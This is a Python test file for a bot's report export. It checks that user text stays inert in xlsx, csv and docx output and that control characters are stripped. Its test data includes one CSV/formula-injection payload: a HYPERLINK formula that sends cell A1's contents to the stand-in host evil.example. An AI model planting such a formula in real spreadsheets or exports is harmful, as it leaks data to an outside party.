"""Exported files hold user text as text (issue 15, items 6 and 7): no formula from a transfer authority,
no crash on a control character, whatever is stored; and text is normalised where it enters."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl

from bot import export
from bot.router import clean
from bot.messages import Incoming
from bot.text import normalise, printable
from tests.fakes import Harness, Sent

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
VT_DEPARTMENT = "第一\x0b检察部"  # stored before text was normalised where it enters


def stamp(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="milliseconds")


def files_of(sent: list[Sent]) -> list[tuple[str, str]]:
    return [(f[0], f[1]) for s in sent for f in s.payload.get("files") or []]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_formula_is_written_as_a_text_cell() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    export.write_row(sheet, 1, [FORMULA, "#N/A", "+1-2", 42, None])
    out = io.BytesIO()
    book.save(out)
    xml = sheet_xml(out.getvalue())
    assert "<f>" not in xml and 't="e"' not in xml
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in again[1]][:4] == [FORMULA, "#N/A", "+1-2", 42]
    assert [c.data_type for c in again[1]][:4] == ["s", "s", "s", "n"]
    assert again["A1"].quotePrefix  # Excel keeps it text even when the cell is edited


def test_csv_neutralises_what_a_spreadsheet_would_evaluate() -> None:
    data = export.csv_bytes([[FORMULA, "+86", "-x", "@SUM(A1)", "\tx", "plain", -3, None]])
    assert data.startswith("\ufeff".encode())
    row = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert row == ["'" + FORMULA, "'+86", "'-x", "'@SUM(A1)", "'\tx", "plain", "-3", ""]


def test_text_is_normalised_where_it_enters() -> None:
    decomposed = "Jose\u0301 张\x0b三\x00\r\n第二行\r第三行\t完"
    assert normalise(decomposed) == "José 张三\n第二行\n第三行\t完"
    assert normalise("\x85\x9f\x7fok") == "ok"  # C1 controls and DEL too
    assert normalise("\ud83d") == "\ufffd"  # a lone surrogate cannot be stored as UTF-8
    inc = clean(Incoming(channel="test", user_id="1", chat_id="1", text="a\x0bb", display_name="e\u0301"))
    assert (inc.text, inc.display_name) == ("ab", "é")
    assert printable("a\x0bb\x00c\ufffe\td\ne") == "abc\td\ne"


async def test_the_half_year_report_survives_a_formula_and_a_control_character(harness: Harness) -> None:
    """The review's two findings: a transfer authority '=HYPERLINK(…)' became a live formula in 表10, and a
    vertical tab in a department's name stopped the report (openpyxl IllegalCharacterError)."""
    clerk_id = await harness.add_staff("陈静", ["office"])
    rep = await harness.add_representative("王建国")
    now = stamp(harness.clock.now())
    async with harness.db.transaction() as tx:
        dept = await tx.insert("INSERT INTO departments (name, created_at) VALUES (?, ?) RETURNING id",
                               (VT_DEPARTMENT, now))
        for number, state, due, to in (("LS-2026-0001", "transferred", "2026-10-01", FORMULA),
                                       ("LS-2026-0002", "assigned", "2026-10-20", None)):
            await tx.execute(
                "INSERT INTO matters (number, kind, representative_id, subject, body, state, department_id,"
                " registered_at, due_date, updated_at, closed_at, transferred_to)"
                " VALUES (?, 'suggestion', ?, '事由', '正文', ?, ?, ?, ?, ?, ?, ?)",
                (number, rep, state, dept, stamp(datetime(2026, 7, 20, 2, tzinfo=UTC)), due, now,
                 datetime(2026, 8, 1, 2, tzinfo=UTC).isoformat() if to else None, to))
    clerk = harness.user("3001")
    await clerk.say(f"/start {await harness.invite(clerk_id)}")
    sent = await clerk.say("/report 2026H2")
    files = files_of(sent)
    assert [name.rsplit(".", 1)[1] for _p, name in files] == ["docx", "xlsx"]
    data = Path(files[1][0]).read_bytes()
    assert "<f>" not in sheet_xml(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    transfers = next(s for s in book.worksheets if s.title.startswith("表10 "))
    assert transfers["A2"].value == FORMULA and transfers["A2"].data_type == "s"
    overdue = next(s for s in book.worksheets if s.title.startswith("表12 "))
    assert overdue["C2"].value == "第一检察部"
    import docx

    document = docx.Document(io.BytesIO(Path(files[0][0]).read_bytes()))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    assert FORMULA in cells and "第一检察部" in cells
